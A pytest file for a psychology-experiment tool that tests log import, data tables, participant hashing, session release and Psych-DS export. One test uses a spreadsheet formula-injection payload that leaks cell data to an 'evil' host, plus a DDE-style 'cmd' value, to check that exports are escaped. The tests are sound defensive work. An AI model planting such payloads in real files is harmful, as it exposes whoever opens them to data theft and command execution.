"""Test the tables of the analysis from the store and from raw logs.

Tests `contstim.experiment.study_data`, `contstim.experiment.importing`,
`contstim.experiment.exporting`.
"""

import csv
import json
import re
import uuid
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from client_messages import age_sessions, answer, answers_to, event, play, session_request
from psychds_rules import check_psychds
from studies import ATTENTION, RECRUITER, add, edit

from contstim.cli import main
from contstim.errors import InputError, ValidationError
from contstim.experiment.exporting import read_recruiter_ids, write_psychds
from contstim.experiment.importing import import_logs
from contstim.experiment.maintenance import make_replacement_table, release_sessions
from contstim.experiment.messages import RequestError
from contstim.experiment.page_data import digest_materials, make_session_data
from contstim.experiment.schema import open_data, write_transaction
from contstim.experiment.store import Store
from contstim.experiment.study import Study, read_study
from contstim.experiment.study_data import hash_participant, read_study_data
from contstim.tables import read_table


@pytest.fixture
def study_with_sessions(study: Study) -> Study:
    """Return a study with a correct session, a failed catch trial and two unfinished sessions."""
    study = add(study, ATTENTION + RECRUITER)
    with Store(study) as store:
        play(store, "GOOD")
        play(store, "POOR", catch=1)
        play(store, "LEFT", n=3)
        token, bundle, _ = store.open(session_request(study)).result()
        first = bundle["trials"][1]["trial"]
        store.add_answers(token, [answer(first, -3), answer(first, 3)]).result()
        store.add_events(token, [event("blur")]).result()
    return study


def test_choices_agree_with_the_design(study_with_sessions: Study, trials: pd.DataFrame) -> None:
    choices = read_study_data(study_with_sessions).choices
    assert len(choices) == 6 + 6 + 2 + 1  # of LEFT's three answers one is to a check
    keys = ["trial", "condition", "sentence_1", "sentence_2", "side_1", "stimulus", "group"]
    keys += ["kind_1", "kind_2"]
    for who, own in choices.groupby("participant"):
        assert re.fullmatch("[0-9a-f]{16}", str(who))
        wanted = trials[trials["participant"] == own["assignment"].iloc[0]]
        wanted = wanted[wanted["stimulus"].isin(own["stimulus"])]
        assert own["item"].tolist() == wanted["item"].astype(str).tolist()
        assert own[keys].to_numpy().tolist() == wanted[keys].to_numpy().tolist()
        pairs = own[["model_1", "model_2"]].astype(object)
        assert pairs.where(pairs.notna(), None).to_numpy().tolist() == (
            wanted[["model_1", "model_2"]].astype(object).to_numpy().tolist()
        )
    whole = choices[
        choices["participant"].isin(read_study_data(study_with_sessions).complete_participants)
    ]
    ratings = whole[whole["condition"] != "catch"]["rating"]
    assert (ratings == -1.5).all()
    assert whole[whole["condition"] == "catch"]["rating"].tolist().count(1.5) == 1
    assert (choices["expected"].notna() == (choices["condition"] == "catch")).all()


def test_tables_of_sessions_checks_and_conflicts(study_with_sessions: Study) -> None:
    collected = read_study_data(study_with_sessions)
    sessions = collected.sessions
    assert sessions["outcome"].tolist() == ["complete", "complete", "unfinished", "unfinished"]
    assert sessions["n_answered"].tolist() == [6, 6, 2, 1]
    assert sessions["n_trials"].tolist() == [6] * 4
    assert sessions["catch_right"].tolist()[:2] == [2, 1]
    assert sessions["checks_right"].tolist()[:2] == [2, 2]
    assert len(collected.complete_participants) == 2
    assert collected.conflicts["choice"].tolist() == [3]
    assert collected.events["kind"].tolist() == ["blur"]
    assert len(collected.checks) == 2 + 2 + 1
    everything = "".join(
        table.to_csv()
        for table in (collected.choices, sessions, collected.checks, collected.events)
    )
    assert "GOOD" not in everything
    assert "POOR" not in everything


def test_participant_hashes_are_specific_to_the_study(study_with_sessions: Study) -> None:
    first = read_study_data(study_with_sessions).sessions["participant"].tolist()
    assert first == read_study_data(study_with_sessions).sessions["participant"].tolist()
    assert len(set(first)) == 4
    assert hash_participant("a", "s", "GOOD") != hash_participant("b", "s", "GOOD")
    assert hash_participant("a", "s", None) != hash_participant("a", "t", None)
    assert hash_participant("a", "s", "x") == hash_participant("a", "t", "x")
    assert hash_participant("a", "s", "x") != hash_participant("a", "s", None)


def test_reading_does_not_change_the_data_file(study_with_sessions: Study) -> None:
    path = study_with_sessions.folder / "collected.sqlite3"
    before = path.read_bytes()
    read_study_data(study_with_sessions)
    read_recruiter_ids(study_with_sessions)
    assert path.read_bytes() == before


def test_export_without_data_is_rejected(study: Study, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["experiment", "export", str(study.folder), "--out", "x"]) == 2
    assert "there are no data" in capsys.readouterr().err


def raw_log(
    study: Study, assignment: int, session: str, n: int | None = None
) -> list[dict[str, Any]]:
    """Return the log lines of a page without a server."""
    bundle = make_session_data(study, assignment)
    named = {name: bundle[name] for name in ("group", "assignment", "digest")}
    head = {"session": session, **named}
    consent = {
        "version": study.consent.version,
        "sha256": study.consent_sha256,
        "given": True,
        "at": "2026-11-21T11:58:00.000Z",
    }
    lines: list[dict[str, Any]] = [{**head, "study": study.study.name, "consent": consent}]
    lines += [{**head, "answers": [a]} for a in answers_to(bundle["trials"][:n])]
    return [*lines, {**head, "events": [event()]}]


def write_lines(path: Path, lines: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), "utf-8")
    return path


def test_imported_logs_equal_server_tables(study: Study, tmp_path: Path) -> None:
    first, second = "session-1", "session-2"
    lines = raw_log(study, 2, first)
    folder = tmp_path / "logs"
    folder.mkdir()
    write_lines(folder / "a.jsonl", lines[:3])
    write_lines(folder / "b.txt", lines[2:] + raw_log(study, 3, second, 2))
    found = import_logs(study, [folder])
    assert (found.sessions, found.added_answers, found.conflicting_answers, found.notes) == (
        2,
        8,
        0,
        (),
    )
    again = import_logs(study, [folder])
    assert (again.added_answers, again.notes) == (0, ())
    collected = read_study_data(study)
    assert collected.sessions["outcome"].tolist() == ["complete", "unfinished"]
    assert collected.sessions["source"].tolist() == ["import"] * 2
    assert collected.sessions["started_at"].iloc[0] == "2026-11-21T11:58:00.000+00:00"
    assert collected.sessions["minutes"].iloc[0] == 2.0
    assert collected.sessions["consent_sha256"].iloc[0] == study.consent_sha256
    with Store(study, tmp_path / "other.sqlite3") as store:
        for wanted in (1, 3, 2):  # the assignments in the order in which a server gives them
            token, bundle, _ = store.open(session_request(study)).result()
            assert bundle["assignment"] == wanted
        sent = [line["answers"][0] for line in lines if "answers" in line]
        store.add_answers(token, sent).result()
    served = read_study_data(study, tmp_path / "other.sqlite3").choices
    imported = collected.choices[collected.choices["assignment"] == 2]
    columns = [c for c in served.columns if c not in ("participant", "received_at")]
    assert imported[columns].to_csv() == served[columns].to_csv()


def test_session_start_can_be_in_a_later_file(study: Study, tmp_path: Path) -> None:
    study = add(study, RECRUITER)
    lines = raw_log(study, 1, "session-1")
    lines[0]["consent"] |= {
        "recruiter": {"participant": "5f0c", "STUDY_ID": "s1"},
        "materials": digest_materials(study),
    }
    first, rest = (
        write_lines(tmp_path / "1.jsonl", lines[:2]),
        write_lines(tmp_path / "2.jsonl", lines[2:]),
    )
    tables = []
    for name, order in (("at-once", [[first, rest]]), ("in-turn", [[rest], [first]])):
        data = tmp_path / f"{name}.sqlite3"
        for paths in order:
            assert import_logs(study, paths, data).notes == ()
        sessions = read_study_data(study, data).sessions
        assert sessions["started_at"].item() == "2026-11-21T11:58:00.000+00:00"
        ids = read_recruiter_ids(study, data)
        assert ids[["recruiter_id", "STUDY_ID"]].to_numpy().tolist() == [["5f0c", "s1"]]
        with closing(open_data(data)) as connection:
            assert connection.execute("SELECT count(*) FROM consents").fetchone()[0] == 1
        tables.append(sessions.drop(columns="participant"))
    pd.testing.assert_frame_equal(*tables)


@pytest.mark.parametrize("right", [1, 2])
def test_expected_answers_of_the_design_are_kept(study: Study, tmp_path: Path, right: int) -> None:
    path = study.folder / "trials.csv"
    table = pd.read_csv(path)
    random = table["condition"].str.startswith("random")
    assert random.any()
    table.assign(expected=np.where(random, str(right), "")).to_csv(path, index=False)
    study = read_study(study.folder)
    with Store(study) as store:
        play(store, "A")  # who chooses sentence 1
    choices = read_study_data(study).choices
    given = choices["condition"].str.startswith("random")
    assert set(choices.loc[given, "expected"]) == {right}
    assert set(choices.loc[choices["condition"] == "catch", "expected"]) == {1}
    others = choices[~given & (choices["condition"] != "catch")]
    assert others["expected"].isna().all()
    counts = read_study_data(study).sessions[["catch_right", "catch_shown"]].to_numpy().tolist()
    assert counts == [[2 + int(given.sum()) * (right == 1), 2 + int(given.sum())]]
    for wrong in ("3", "left"):
        table.assign(expected=wrong).to_csv(path, index=False)
        with pytest.raises(InputError, match=f"row 1: expected is '{wrong}'; give 1 or 2, the"):
            read_study(study.folder)


def test_answers_to_other_trials_are_rejected(
    study: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = raw_log(study, 1, "session-1")
    path = study.folder / "trials.csv"
    # Another version of the study: the same name, groups and assignments.
    path.write_text(
        path.read_text("utf-8").replace("stood here first", "stood there first"), "utf-8"
    )
    changed = read_study(study.folder)
    whole, half = tmp_path / "whole.jsonl", tmp_path / "half.jsonl"
    write_lines(whole, lines)
    write_lines(half, [*lines[:3], *raw_log(changed, 2, "session-2")])
    command = ["experiment", "import", str(study.folder)]
    assert main([*command, str(whole)]) == 2
    told = capsys.readouterr().err
    assert "it comes from a page with other trials" in told
    assert told.count("\n") == 1
    assert main([*command, str(half)]) == 1
    assert read_study_data(changed).sessions["session"].tolist() == ["session-2"]


def test_answers_on_another_scale_are_rejected(study: Study, tmp_path: Path) -> None:
    lines = write_lines(tmp_path / "x.jsonl", raw_log(study, 1, "session-1"))
    with pytest.raises(InputError, match="other trials"):
        import_logs(edit(study, "levels = 3", "levels = 4"), [lines])


def test_logs_without_a_digest_are_skipped(study: Study, tmp_path: Path) -> None:
    lines = [
        {k: v for k, v in line.items() if k != "digest"} for line in raw_log(study, 1, "session-1")
    ]
    found = import_logs(
        study, [write_lines(tmp_path / "x.jsonl", [*lines, *raw_log(study, 2, "session-2")])]
    )
    assert (found.added_answers, found.sessions) == (6, 1)
    assert len(found.notes) == len(lines)
    assert "line 1 is left out: its digest is None: it comes from a page" in found.notes[0]


def test_faulty_lines_of_raw_logs_are_skipped(
    study: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    session = str(uuid.uuid4())
    digest = study.trials_digests[1]
    head = {"session": session, "group": 1, "assignment": 1, "digest": digest}
    trial = study.design.trials[1][0].id
    good, other = answer(trial), answer(trial, 1)
    path = write_lines(
        tmp_path / "x.jsonl",
        [
            {**head, "answers": [good, other, answer("t999")]},
            {**head, "session": "x"},
            {**head, "assignment": 99},
            {**head, "group": 2},
            {**head, "assignment": 2},
            {**head, "study": "another"},
            {**head, "answers": "none"},
        ],
    )
    with path.open("a", encoding="utf-8") as file:
        file.write('\n{"session": "cut o')
    found = import_logs(study, [path])
    assert (found.added_answers, found.conflicting_answers) == (2, 1)
    texts = " | ".join(found.notes)
    for part in (
        "line 2 is left out: it has no session",
        "line 3 is left out: its assignment is 99",
        "line 4 is left out: its group is 2",
        "line 5 is left out: its assignment is 2, but earlier",
        "line 6 is left out: it belongs to the study 'another'",
        "line 7 is left out: its answers are not a list",
        "line 9 is left out: the body is not JSON",
        "trial is none of this session's trials",
    ):
        assert part in texts
    assert len(found.notes) == 8
    assert main(["experiment", "import", str(study.folder), str(path)]) == 1
    captured = capsys.readouterr()
    assert "1 sessions, 0 new answers" in captured.out
    assert "line 2" in captured.err
    with pytest.raises(InputError, match="has no .jsonl"):
        import_logs(study, [_empty(tmp_path), study.folder / "none-such"])


def test_imported_sessions_get_the_outcome_of_the_server(study: Study, tmp_path: Path) -> None:
    study = edit(add(study, ATTENTION), "failed_checks_limit = 2", "failed_checks_limit = 1")
    study = edit(study, "time_limit_minutes = 0", "time_limit_minutes = 10")
    failed = raw_log(study, 1, "session-1")  # chooses the left side everywhere
    late = raw_log(study, 2, "session-2")
    slow = raw_log(study, 3, "session-3", 2)
    for line in (*late, *slow):
        for value in line.get("answers", []):
            value["choice"] = 1 if value["trial"] == "n1" else -1  # the check that wants the right
    late[-2]["answers"][0]["answered_at"] = "2026-11-21T12:10:00Z"  # 12 minutes after consent
    slow[-1]["events"][0]["at"] = "2026-11-21T12:08:30Z"
    right = raw_log(study, 4, "session-4")
    for line in right:
        for value in line.get("answers", []):
            value["choice"] = 1 if value["trial"] == "n1" else -1
    import_logs(study, [write_lines(tmp_path / "x.jsonl", failed + late + slow + right)])
    ends = read_study_data(study).sessions.set_index("session")["outcome"].to_dict()
    assert ends == {
        "session-1": "failed_checks",
        "session-2": "time_limit",
        "session-3": "time_limit",
        "session-4": "complete",
    }
    write_lines(tmp_path / "rest.jsonl", raw_log(study, 3, "session-3")[3:])
    assert import_logs(study, [tmp_path / "rest.jsonl"]).added_answers == 6
    ends = read_study_data(study).sessions.set_index("session")["outcome"].to_dict()
    assert (ends["session-1"], ends["session-3"]) == ("failed_checks", "complete")


def test_files_without_a_log_are_rejected(
    study: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def refused(*paths: Path) -> str:
        command = ["experiment", "import", str(study.folder), *map(str, paths)]
        assert main(command) == 2
        captured = capsys.readouterr()
        assert captured.out == ""
        assert not (study.folder / "collected.sqlite3").exists()
        return captured.err

    what = "give the files of JSON lines that the study's pages wrote"
    empty, other = tmp_path / "empty.jsonl", tmp_path / "other.jsonl"
    empty.write_text("\n \n", "utf-8")
    assert refused(empty) == f"contstim: {empty} has no log of this study (it is empty); {what}\n"
    other.write_text('{"session": "x"}\nchoice,rt\n', "utf-8")
    why = "line 1: it has no session"
    assert refused(other) == f"contstim: {other} has no log of this study ({why}); {what}\n"
    right = write_lines(tmp_path / "right.jsonl", raw_log(study, 1, "session-1"))
    assert refused(right, other) == (
        f"contstim: {other} has no log of this study ({why}); {what}\n"
    )
    folder = tmp_path / "logs"
    folder.mkdir()
    (folder / "notes.txt").write_text("Monday: two came.\n", "utf-8")
    why = f"{folder / 'notes.txt'}, line 1: the body is not JSON"
    assert refused(folder) == f"contstim: {folder} has no log of this study ({why}); {what}\n"
    right.rename(folder / "right.jsonl")
    assert import_logs(study, [folder]).added_answers == 6


def test_skipped_lines_create_no_session(study: Study, tmp_path: Path) -> None:
    head = {"session": "session-1", "group": 1, "assignment": 1}
    head["digest"] = study.trials_digests[1]
    path = write_lines(
        tmp_path / "x.jsonl",
        [
            {**head, "answers": "none"},
            {**head, "session": "session-2", "assignment": 1, "events": []},
        ],
    )
    assert import_logs(study, [path]).sessions == 1
    assert read_study_data(study).sessions["group"].tolist() == [1]


def test_failed_writes_leave_no_partial_data(
    study: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = study.folder / "collected.sqlite3"
    open_data(path, study).close()

    def fill(statement: str) -> None:
        with write_transaction(path) as connection:
            connection.execute("DROP TRIGGER IF EXISTS full")
            connection.execute(
                f"CREATE TRIGGER full BEFORE {statement} BEGIN"
                " SELECT RAISE(FAIL, 'database or disk is full'); END"
            )

    fill("INSERT ON events")
    logs = write_lines(tmp_path / "x.jsonl", raw_log(study, 1, "session-1"))
    assert main(["experiment", "import", str(study.folder), str(logs)]) == 2
    what = f"contstim: cannot use {path} as the study's data: database or disk is full\n"
    assert capsys.readouterr().err == what
    assert read_study_data(study).sessions.empty
    fill("UPDATE OF released_at ON sessions")
    assert import_logs(study, [logs]).added_answers == 6
    release = ["experiment", "release", str(study.folder), "--session", "session-1"]
    assert main(release) == 2
    assert capsys.readouterr().err == what
    assert read_study_data(study).sessions["released"].tolist() == [""]


def _empty(tmp_path: Path) -> Path:
    folder = tmp_path / "empty"
    folder.mkdir()
    return folder


FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'


def test_spreadsheet_formulas_in_exports_are_escaped(study: Study, tmp_path: Path) -> None:
    question = '[[questions]]\nname = "free"\nprompt = "Anything?"\nrows = 3\nwhen = "after"\n'
    study = add(study, RECRUITER + question)
    with Store(study) as store:
        asked = replace(session_request(study, "GOOD"), parameters={"STUDY_ID": "@SUM(1+1)*cmd|x"})
        token, _, _ = store.open(asked).result()
        detail = json.dumps({"responses": {"free": f"{FORMULA}\0"}, "rt_ms": 5})
        assert store.add_events(token, [event("responses", detail=detail)]).result().acknowledged
    out, ids = tmp_path / "out", tmp_path / "ids.csv"
    command = ["experiment", "export", str(study.folder), "--out", str(out), "--ids", str(ids)]
    assert main(command) == 0
    assert read_table(ids)["recruiter_id"].tolist() == ["GOOD"]
    tables = [*out.rglob("*.csv"), ids]
    assert any("HYPERLINK" in path.read_text("utf-8") for path in tables)
    for path in tables:
        text = path.read_text("utf-8")
        assert "\0" not in text
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if re.match(r"[=@]|[+-](?!\d)", cell)]
    assert read_table(out / "responses.csv")["response"].tolist() == [f"{FORMULA}\0"]


def test_invalid_recruiter_ids_are_rejected(study: Study) -> None:
    study = add(study, RECRUITER)
    with Store(study) as store:
        for who in (FORMULA, "{{%PROLIFIC_PID%}}", "a b", "x" * 129):
            with pytest.raises(InputError, match="which no platform gives"):
                store.open(session_request(study, who)).result()
        store.open(session_request(study, "5f00_-Z")).result()
        store.open(session_request(study, "a@b.org")).result()


def test_invalid_recruiter_ids_in_logs_are_noted(study: Study, tmp_path: Path) -> None:
    study = add(study, RECRUITER)
    lines = raw_log(study, 1, "session-1")
    lines[0]["consent"]["recruiter"] = {"participant": FORMULA, "jatos_result": "7"}
    found = import_logs(study, [write_lines(tmp_path / "x.jsonl", lines)])
    assert found.added_answers == 6
    assert "is left out, because it has characters that" in found.notes[0]
    assert read_recruiter_ids(study)["recruiter_id"].tolist() == [None]


def test_replacement_frees_the_assignments(
    study_with_sessions: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with Store(study_with_sessions) as store, pytest.raises(RequestError, match="no place"):
        store.open(session_request(study_with_sessions, "NEXT")).result()
    out = tmp_path / "replace.csv"
    age_sessions(study_with_sessions, 400)
    command = ["experiment", "replace", str(study_with_sessions.folder), "--exclude", "catch<0.91"]
    assert main([*command, "--release", "--out", str(out)]) == 0
    assert "3 assignments released" in capsys.readouterr().err
    table = pd.read_csv(out)
    assert table["reason"].tolist() == [
        "catch trials: 0.500 of catch trials right",
        "unfinished: 2 of 6 trials answered",
        "unfinished: 1 of 6 trials answered",
    ]
    assignment = int(table["assignment"][0])
    with Store(study_with_sessions) as store:
        assignments = [
            store.open(session_request(study_with_sessions, name)).result()[1]["assignment"]
            for name in "XYZ"
        ]
        assert assignment in assignments
        # Excluded sessions do not take their assignments back.
        assert store.summary().result()["free"] == 0
    assert len(read_study_data(study_with_sessions).choices) == 15
    assert main([*command, "--out", str(out)]) == 0
    assert pd.read_csv(out)["released"].tolist() == ["excluded", "abandoned", "abandoned"]


def test_replacement_spares_active_sessions(
    study_with_sessions: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "replace.csv"
    command = [
        "experiment",
        "replace",
        str(study_with_sessions.folder),
        "--release",
        "--out",
        str(out),
    ]
    assert main(command) == 0
    assert "0 assignments released" in capsys.readouterr().err
    assert pd.read_csv(out).empty
    age_sessions(study_with_sessions, 400)
    assert main(command) == 0
    assert "2 assignments released" in capsys.readouterr().err
    with Store(study_with_sessions) as store:
        token, _, _ = store.open(session_request(study_with_sessions, "LEFT")).result()
        store.add_events(token, [event("blur")]).result()
    sessions = read_study_data(study_with_sessions).sessions
    assert sessions["released"].tolist().count("abandoned") == 1


def test_sessions_are_released_by_id_or_timeout(
    study_with_sessions: Study, capsys: pytest.CaptureFixture[str]
) -> None:
    sessions = read_study_data(study_with_sessions).sessions
    name = sessions["session"][2]
    command = ["experiment", "release", str(study_with_sessions.folder)]
    assert main([*command, "--session", name, "--reason", "withdrawn"]) == 0
    assert capsys.readouterr().out.split() == [name]
    assert read_study_data(study_with_sessions).sessions["released"].tolist() == [
        "",
        "",
        "withdrawn",
        "",
    ]
    assert main([*command, "--session", "none-such"]) == 2
    assert "there is no session 'none-such'" in capsys.readouterr().err
    assert main(command) == 2
    assert main([*command, "--timeout", "0"]) == 0
    assert capsys.readouterr().out.split() == [sessions["session"][3]]
    assert release_sessions(study_with_sessions, {name: "again"}) == []


def test_participants_failing_a_rule_are_replaced(
    study_with_sessions: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "replace.csv"
    command = ["experiment", "replace", str(study_with_sessions.folder), "--exclude", "trials<1000"]
    assert main([*command, "--out", str(out)]) == 0
    assert pd.read_csv(out)["reason"].str.startswith("few trials: ").sum() == 2
    assert "assignments to replace" in capsys.readouterr().err


def test_replacement_without_rules_lists_unfinished_sessions(study_with_sessions: Study) -> None:
    none = pd.DataFrame(columns=["participant", "rule", "detail"])
    table = make_replacement_table(read_study_data(study_with_sessions), none)
    assert table["group"].tolist() == [1, 2]


def test_check_psychds_finds_each_fault(study_with_sessions: Study, tmp_path: Path) -> None:
    folder = tmp_path / "ds"
    write_psychds(study_with_sessions, read_study_data(study_with_sessions), folder)
    rows = check_psychds(folder)
    assert rows["data/study-study_task-choices_data.csv"] == 15
    assert {"README.md", "materials"} < {path.name for path in folder.iterdir()}
    described = json.loads((folder / "dataset_description.json").read_text("utf-8"))
    known = {v["name"]: v["description"] for v in described["variableMeasured"]}
    assert "the design's table" not in " ".join(known.values())
    text = (folder / "dataset_description.json").read_text("utf-8")
    data = folder / "data" / "study-study_task-choices_data.csv"
    table = data.read_text("utf-8")
    broken = (
        ("dataset_description.json", text.replace('"Dataset"', '"Thing"', 1), "not 'Dataset'"),
        ("dataset_description.json", text.replace("schema.org", "x.org"), "not schema.org"),
        ("dataset_description.json", text.replace('"rating"', '"rated"'), "column 'rating'"),
        ("dataset_description.json", text.replace('"name"', '"named"', 1), "lacks 'name'"),
        ("dataset_description.json", "[]", "not a JSON object"),
        ("dataset_description.json", "{", "is not JSON"),
        ("dataset_description.json", None, "there is no"),
        (f"data/{data.name}", table + "1,2\n", "row 16 has 2 cells"),
        (f"data/{data.name}", "", "has no header"),
        (f"data/{data.name}", table.replace("group", "trial", 1), "has the column 'trial' twice"),
        (f"data/{data.name}", 'rating\n"1', "not a CSV file"),
        (f"data/{data.name}", None, "task-sub-ject_data.csv is not a name of a data file"),
    )
    for name, content, message in broken:
        path = folder / name
        before = path.read_text("utf-8")
        other = folder / "data" / "task-sub-ject_data.csv"
        if content is None:
            path.rename(other)
        else:
            path.write_text(content, "utf-8")
        with pytest.raises(ValidationError, match=re.escape(message)):
            check_psychds(folder)
        other.unlink(missing_ok=True)
        path.write_text(before, "utf-8")
    data.write_bytes(b"rating\n\xff\n")
    with pytest.raises(ValidationError, match="UTF-8"):
        check_psychds(folder)
    data.unlink()
    for path in (folder / "data").iterdir():
        path.unlink()
    with pytest.raises(ValidationError, match="has no CSV file"):
        check_psychds(folder)
    (folder / "data").rmdir()
    with pytest.raises(ValidationError, match="no folder data"):
        check_psychds(folder)
    with pytest.raises(InputError, match="there is no folder"):
        check_psychds(tmp_path / "none")


def test_row_ids_of_other_data_sets_are_unique(study_with_sessions: Study, tmp_path: Path) -> None:
    folder = tmp_path / "ds"
    write_psychds(study_with_sessions, read_study_data(study_with_sessions), folder)
    path = folder / "dataset_description.json"
    text = path.read_text("utf-8").replace('"name": "rating"', '"name": "row_id"')
    path.write_text(
        text.replace('"variableMeasured": [', '"variableMeasured": ["rating", '), "utf-8"
    )
    (folder / "data" / "task-x_data.csv").write_text("row_id\n1\n2\n", "utf-8")
    assert check_psychds(folder)["data/task-x_data.csv"] == 2
    (folder / "data" / "task-x_data.csv").write_text("row_id\n1\n1\n", "utf-8")
    with pytest.raises(ValidationError, match="row_id is not unique"):
        check_psychds(folder)
